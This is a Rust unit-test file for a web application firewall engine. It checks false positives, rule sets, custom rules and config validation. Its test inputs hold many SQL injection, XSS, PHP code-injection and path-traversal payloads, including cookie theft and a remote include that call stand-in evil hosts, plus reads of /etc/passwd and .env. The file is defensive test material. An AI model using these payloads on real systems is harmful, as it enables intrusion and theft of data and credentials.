//! Unit tests of the waf engine: zero false positives on the ordinary-traffic corpus, each
//! built-in set against typical attacks and their encodings, custom rules, actions, counters.

use super::*;

const ALL_SETS: [&str; 4] = ["sqli", "xss", "php_injection", "path_traversal"];

fn engine_from(toml_text: &str) -> WafEngine {
    let cfg: WafConfig = toml::from_str(toml_text).unwrap();
    WafEngine::compile(&cfg).unwrap()
}

/// Every built-in set, looking at every header too (stricter than the default targets).
fn all_sets() -> WafEngine {
    engine_from(
        r#"sets = ["sqli", "xss", "php_injection", "path_traversal"]
set_targets = ["path", "query", "body", "headers"]"#,
    )
}

struct Req<'a> {
    path: &'a [u8],
    query: &'a [u8],
    headers: &'a [(&'a [u8], &'a [u8])],
    body: &'a [u8],
}

fn run<'e>(e: &'e WafEngine, s: &mut WafScratch, r: &Req<'_>) -> WafVerdict<'e> {
    let input = WafInput {
        path: r.path,
        query: r.query,
        headers: r.headers.iter().copied(),
        body: r.body,
    };
    e.check(&input, s)
}

/// Splits `/path?query` into its parts.
fn target(t: &str) -> (&[u8], &[u8]) {
    match t.split_once('?') {
        Some((p, q)) => (p.as_bytes(), q.as_bytes()),
        None => (t.as_bytes(), b""),
    }
}

#[test]
fn the_corpus_of_ordinary_requests_has_zero_false_positives() {
    let e = all_sets();
    let mut s = e.scratch();
    let mut requests = 0;
    let mut failures = Vec::new();
    for line in include_str!("corpus.txt").lines() {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        requests += 1;
        let verdict = if let Some(h) = line.strip_prefix("H ") {
            let (name, value) = h.split_once(": ").unwrap();
            let headers = [(name.as_bytes(), value.as_bytes())];
            run(
                &e,
                &mut s,
                &Req {
                    path: b"/",
                    query: b"",
                    headers: &headers,
                    body: b"",
                },
            )
        } else {
            let (method_target, body) = match line.split_once(" | ") {
                Some((m, b)) => (m, b),
                None => (line, ""),
            };
            let (_, t) = method_target.split_once(' ').unwrap();
            let (path, query) = target(t);
            run(
                &e,
                &mut s,
                &Req {
                    path,
                    query,
                    headers: &[],
                    body: body.as_bytes(),
                },
            )
        };
        if verdict.blocked.is_some() || verdict.logged > 0 {
            failures.push(format!("{line}\n    -> {verdict:?}"));
        }
    }
    assert!(requests >= 200, "corpus has {requests} requests");
    assert!(
        failures.is_empty(),
        "false positives:\n{}",
        failures.join("\n")
    );
}

/// Asserts that `attack` is blocked by a rule whose id starts with `set_prefix`, sent as the
/// query string and as a form body, and as the request target when it starts with `/`.
fn assert_blocked(e: &WafEngine, s: &mut WafScratch, set_prefix: &str, attack: &str) {
    let mut verdicts = vec![
        (
            "query",
            run(
                e,
                s,
                &Req {
                    path: b"/api/v1/products",
                    query: attack.as_bytes(),
                    headers: &[],
                    body: b"",
                },
            ),
        ),
        (
            "body",
            run(
                e,
                s,
                &Req {
                    path: b"/api/v1/form",
                    query: b"",
                    headers: &[],
                    body: attack.as_bytes(),
                },
            ),
        ),
    ];
    if attack.starts_with('/') {
        let (path, query) = target(attack);
        verdicts.push((
            "target",
            run(
                e,
                s,
                &Req {
                    path,
                    query,
                    headers: &[],
                    body: b"",
                },
            ),
        ));
    }
    for (form, v) in verdicts {
        let hit = v
            .blocked
            .unwrap_or_else(|| panic!("{form} not blocked: {attack}"));
        assert!(
            hit.rule.starts_with(set_prefix),
            "{attack}: blocked by {} not {set_prefix}",
            hit.rule
        );
    }
}

#[test]
fn sqli_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "id=1 UNION SELECT username, password FROM users",
        "id=1+union+all+select+null,null--",
        "id=-1%20UnIoN%20SeLeCt%201,2,3",
        "id=1/**/union/**/select/**/1",
        "id=1%2F%2A%2A%2Funion%2F%2A%2A%2Fselect%2F%2A%2A%2F1",
        "id=1 union(select 1)",
        "q=%2527%2520or%2520%25271%2527%253D%25271",
        "user=admin' or '1'='1",
        "user=admin%27%20OR%20%271%27%3D%271",
        "user=' or ''='",
        "id=1' or 1=1--",
        "id=1%27+or+1%3D1--+",
        "id=1 or 1=1",
        "id=1) or (1=1",
        "user=admin'--",
        "user=admin%27--",
        "user=admin' #",
        "user=admin')/*",
        "id=1 and sleep(5)",
        "id=1;SELECT SLEEP(5)",
        "id=1 and benchmark(5000000,md5(1))",
        "id=1;waitfor delay '0:0:5'--",
        "id=1' and extractvalue(1,concat(0x7e,version()))--",
        "q=1 and 1=2 union select table_name from information_schema.tables",
        "q=x' AND 1=0 UNION ALL SELECT load_file('/etc/hosts')",
        "id=1; DROP TABLE users",
        "id=1;delete from orders where 1=1",
        "id=1; insert into users (name) values ('x')",
        "id=1; update users set role='admin'",
        "id=1;exec xp_cmdshell 'dir'",
        "q=select @@version",
        "id=1 into outfile '/tmp/x'",
        "id=1/*!50000union*/ select 1",
    ] {
        assert_blocked(&e, &mut s, "sqli", a);
    }
}

#[test]
fn xss_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "q=<script>alert(1)</script>",
        "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "q=%3CSCRIPT+src%3Dhttps%3A%2F%2Fevil.example%2Fx.js%3E",
        "q=< script >",
        "url=javascript:alert(1)",
        "url=JaVaScRiPt%3Aalert%281%29",
        "url=javascript: void(0)",
        "url=javascript://%0aalert(1)",
        "q=<img src=x onerror=alert(1)>",
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "q=<svg/onload=alert(1)>",
        "q=\" onmouseover=\"alert(1)",
        "q=<body onload=alert(1)>",
        "q=<iframe src=//evil.example>",
        "q=%3Ciframe%20srcdoc%3D...%3E",
        "q=<object data=x>",
        "q=<embed src=x>",
        "q=<math><mtext></mtext></math>",
        "q=x';document.location='//evil/'+document.cookie",
        "q=String.fromCharCode(88,83,83)",
        "q=data:text/html;base64,PHNjcmlwdD4=",
        "q=<details open ontoggle=alert(1)>",
    ] {
        assert_blocked(&e, &mut s, "xss", a);
    }
}

#[test]
fn php_injection_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "cmd=<?php system('id'); ?>",
        "x=%3C%3Fphp+phpinfo()%3B+%3F%3E",
        "x=<?= `ls` ?>",
        "x=eval($_POST['c'])",
        "x=eval(base64_decode('ZWNobyAxOw=='))",
        "x=EVAL (gzinflate(str_rot13('x')))",
        "x=assert($_REQUEST[a])",
        "x=system(\"cat /tmp/x\")",
        "x=shell_exec('whoami')",
        "x=passthru('ls')",
        "x=exec('rm -rf /tmp/x')",
        "x=phpinfo()",
        "x=file_put_contents('s.php', $x)",
        "x=include('http://evil.example/shell.txt')",
        "x=require_once($_GET['f'])",
        "x=$_SERVER['HTTP_USER_AGENT']",
        "page=php://filter/convert.base64-encode/resource=index",
        "page=phar://uploads/x.jpg",
        "page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "x=create_function('', $_GET['c'])",
        "x=call_user_func_array('system', array('id'))",
    ] {
        assert_blocked(&e, &mut s, "php", a);
    }
}

#[test]
fn path_traversal_attacks_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    for a in [
        "/static/../../etc/passwd",
        "/static/..%2f..%2fetc%2fpasswd",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static/%2E%2E%2F%2E%2E%2Fsecret",
        "/static/%252e%252e%252fsecret",
        "/static/..%5c..%5cwindows",
        "/static/..\\..\\boot.ini",
        "/static/.%2e/secret",
        "/static/%c0%ae%c0%ae/secret",
        "/app/..;/admin",
        "file=../../../../etc/shadow",
        "file=....//....//etc/hosts",
        "file=/proc/self/environ",
        "file=C:\\Windows\\win.ini",
        "file=/var/www/.env",
        "file=/repo/.git/config",
        "file=secret.txt%00.jpg",
        "/download?name=report.pdf%00.html",
    ] {
        assert_blocked(&e, &mut s, "traversal", a);
    }
}

#[test]
fn attacks_in_bodies_and_headers_are_blocked() {
    let e = all_sets();
    let mut s = e.scratch();
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/api",
            query: b"",
            headers: &[],
            body: br#"{"q": "1' OR '1'='1"}"#,
        },
    );
    assert_eq!(
        v.blocked.map(|h| (h.rule, h.target)),
        Some(("sqli-tautology", Target::Body))
    );
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/api",
            query: b"",
            headers: &[],
            body: b"comment=%3Cscript%3Ex%3C%2Fscript%3E",
        },
    );
    assert_eq!(v.blocked.map(|h| h.target), Some(Target::Body));
    let headers: [(&[u8], &[u8]); 2] = [
        (b"Accept", b"*/*"),
        (b"User-Agent", b"() { :; }; <?php system('id'); ?>"),
    ];
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"",
            headers: &headers,
            body: b"",
        },
    );
    assert_eq!(v.blocked.map(|h| h.target), Some(Target::Header));
}

#[test]
fn default_set_targets_skip_other_headers() {
    let e = engine_from(r#"sets = ["xss"]"#);
    let mut s = e.scratch();
    let other: [(&[u8], &[u8]); 1] = [(b"X-Note", b"<script>")];
    assert!(run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"",
            headers: &other,
            body: b""
        }
    )
    .blocked
    .is_none());
    let cookie: [(&[u8], &[u8]); 1] = [(b"cookie", b"a=%3Cscript%3E")];
    assert!(run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"",
            headers: &cookie,
            body: b""
        }
    )
    .blocked
    .is_some());
}

#[test]
fn only_the_body_prefix_is_read() {
    let e = engine_from("sets = [\"xss\"]\nbody_limit = 16");
    let mut s = e.scratch();
    let mut body = vec![b' '; 16];
    body.extend_from_slice(b"<script>");
    assert!(run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"",
            headers: &[],
            body: &body
        }
    )
    .blocked
    .is_none());
    body.drain(..10);
    assert!(run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"",
            headers: &[],
            body: &body
        }
    )
    .blocked
    .is_some());
}

#[test]
fn custom_rules_targets_actions_and_counters() {
    let e = engine_from(
        r#"
[[rules]]
id = "no-admin"
targets = ["path"]
regex = "^/admin"

[[rules]]
id = "bad-bot"
targets = ["header:user-agent"]
keywords = ["sqlmap", "nikto"]

[[rules]]
id = "watch-debug"
targets = ["query", "body"]
keywords = ["debug=1"]
action = "log"
"#,
    );
    let mut s = e.scratch();
    let r = |path: &'static [u8],
             query: &'static [u8],
             headers: &'static [(&'static [u8], &'static [u8])]| Req {
        path,
        query,
        headers,
        body: b"",
    };
    let v = run(&e, &mut s, &r(b"/admin/users", b"", &[]));
    assert_eq!(
        v.blocked,
        Some(WafHit {
            rule: "no-admin",
            target: Target::Path
        })
    );
    // A path rule does not look at the query.
    assert!(run(&e, &mut s, &r(b"/shop", b"next=/admin", &[]))
        .blocked
        .is_none());
    let v = run(&e, &mut s, &r(b"/", b"", &[(b"User-Agent", b"SQLMap/1.7")]));
    assert_eq!(v.blocked.map(|h| h.rule), Some("bad-bot"));
    assert!(run(&e, &mut s, &r(b"/", b"", &[(b"Referer", b"sqlmap")]))
        .blocked
        .is_none());
    // Log rules let the request pass and count once per request, raw and decoded alike.
    let v = run(&e, &mut s, &r(b"/", b"debug=1&debug%3D1", &[]));
    assert_eq!(v.blocked, None);
    assert_eq!(v.logged, 1);
    assert_eq!(
        v.first_logged,
        Some(WafHit {
            rule: "watch-debug",
            target: Target::Query
        })
    );
    let counts: Vec<_> = e.hit_counts().collect();
    assert_eq!(
        counts,
        vec![("no-admin", 1), ("bad-bot", 1), ("watch-debug", 1)]
    );
    assert_eq!(e.rule_count(), 3);
}

#[test]
fn rule_actions_override_builtin_rules() {
    let e = engine_from(
        r#"sets = ["sqli", "path_traversal"]
set_action = "log"
[rule_actions]
sqli-union-select = "block"
traversal-dotdot = "off"
"#,
    );
    let mut s = e.scratch();
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"x=1 union select 1",
            headers: &[],
            body: b"",
        },
    );
    assert_eq!(v.blocked.map(|h| h.rule), Some("sqli-union-select"));
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"x=sleep(5)",
            headers: &[],
            body: b"",
        },
    );
    assert_eq!((v.blocked, v.logged), (None, 1));
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/a/../b",
            query: b"",
            headers: &[],
            body: b"",
        },
    );
    assert_eq!((v.blocked, v.logged), (None, 0));
}

#[test]
fn scratch_of_another_engine_is_rebuilt() {
    let a = engine_from(r#"sets = ["xss"]"#);
    let b = engine_from(r#"sets = ["sqli"]"#);
    let mut s = a.scratch();
    let v = run(
        &b,
        &mut s,
        &Req {
            path: b"/",
            query: b"x=1 union select 2",
            headers: &[],
            body: b"",
        },
    );
    assert!(v.blocked.is_some());
    let v = run(
        &a,
        &mut s,
        &Req {
            path: b"/",
            query: b"x=<script>",
            headers: &[],
            body: b"",
        },
    );
    assert!(v.blocked.is_some());
}

#[test]
fn config_errors_name_the_field() {
    let bad = |t: &str| {
        let cfg: WafConfig = toml::from_str(t).unwrap();
        WafEngine::compile(&cfg).unwrap_err().path
    };
    assert_eq!(bad(r#"sets = ["sqli", "nosuch"]"#), "sets[1]");
    assert_eq!(
        bad("sets = [\"sqli\"]\n[rule_actions]\nnosuch = \"off\""),
        "rule_actions.nosuch"
    );
    assert_eq!(
        bad("[[rules]]\nid = \"a\"\nregex = \"(\""),
        "rules[0].regex"
    );
    assert_eq!(
        bad("[[rules]]\nid = \"a\"\nregex = \"x*\""),
        "rules[0].regex"
    );
    assert_eq!(bad("[[rules]]\nid = \"a\""), "rules[0].regex");
    assert_eq!(
        bad("[[rules]]\nid = \"a\"\nkeywords = [\"\"]"),
        "rules[0].keywords"
    );
    assert_eq!(
        bad("[[rules]]\nid = \"a\"\nkeywords = [\"x\"]\ntargets = [\"cookie\"]"),
        "rules[0].targets"
    );
    assert_eq!(
        bad("[[rules]]\nid = \"a\"\nkeywords = [\"x\"]\ntargets = []"),
        "rules[0].targets"
    );
    assert_eq!(
        bad("[[rules]]\nid = \"a\"\nkeywords = [\"x\"]\n[[rules]]\nid = \"a\"\nkeywords = [\"y\"]"),
        "rules[1].id"
    );
    assert_eq!(
        bad("sets = [\"sqli\"]\n[[rules]]\nid = \"sqli-comment\"\nkeywords = [\"y\"]"),
        "rules[0].id"
    );
    assert_eq!(bad("set_targets = [\"nope\"]"), "set_targets");
    assert_eq!(bad("body_limit = 99999999"), "body_limit");
    assert_eq!(bad("decode_passes = 0"), "decode_passes");
    assert!(toml::from_str::<WafConfig>("set = []").is_err());
}

#[test]
fn documented_example_compiles() {
    let cfg: WafConfig = crate::modules::ip_list::tests::doc_example(
        "waf",
        include_str!("../../../../docs/modules/waf.md"),
    );
    let e = WafEngine::compile(&cfg).unwrap();
    let mut s = e.scratch();
    let v = run(
        &e,
        &mut s,
        &Req {
            path: b"/",
            query: b"q=1 union select 2",
            headers: &[],
            body: b"",
        },
    );
    assert!(v.blocked.is_some());
    assert!(e.rule_count() > ALL_SETS.len());
}
